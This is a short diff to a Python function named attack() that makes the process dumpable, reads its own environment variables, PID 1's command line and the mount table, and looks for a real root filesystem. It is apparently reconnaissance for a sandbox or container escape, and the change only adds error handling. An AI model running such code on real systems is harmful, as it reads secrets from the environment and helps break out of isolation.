@@ -14,8 +14,11 @@ def attack():
     libc.prctl(4, 1, ctypes.c_ulong(0), ctypes.c_ulong(0), ctypes.c_ulong(0))  # PR_SET_DUMPABLE
     with open("/proc/self/environ", "rb") as stream:
         start = stream.read()
-    with open("/proc/1/cmdline", "rb") as stream:
-        arguments = stream.read()
+    try:
+        with open("/proc/1/cmdline", "rb") as stream:
+            arguments = stream.read()
+    except FileNotFoundError:
+        arguments = b""
     with open("/proc/self/mounts") as stream:
         mounts = [line.split() for line in stream]
     real = [place for _, place, kind, *_ in mounts if kind in ("ext4", "xfs", "btrfs") and place == "/"]
